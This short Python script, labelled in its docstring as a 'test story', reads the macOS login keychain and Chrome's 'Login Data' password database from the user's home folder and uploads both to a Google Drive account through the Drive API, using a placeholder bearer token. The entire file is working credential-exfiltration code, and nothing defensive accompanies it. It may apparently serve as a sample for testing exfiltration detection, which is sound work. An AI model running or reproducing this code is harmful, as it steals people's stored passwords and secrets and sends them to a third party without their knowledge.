"""Test story: browser and keychain files to somebody's Google Drive, by requests."""
import json
import os

import requests

home = os.path.expanduser("~")
session = requests.Session()
for rel in ("Library/Keychains/login.keychain-db", "Library/Application Support/Google/Chrome/Default/Login Data"):
    with open(os.path.join(home, rel), "rb") as f:
        data = f.read()
    meta = json.dumps({"name": os.path.basename(rel)})
    session.post("https://www.googleapis.com/upload/drive/v3/files?uploadType=multipart", timeout=20,
                 headers={"Authorization": "Bearer ya29.EXAMPLE"},
                 files={"metadata": (None, meta, "application/json"), "file": ("f", data, "application/octet-stream")}).raise_for_status()
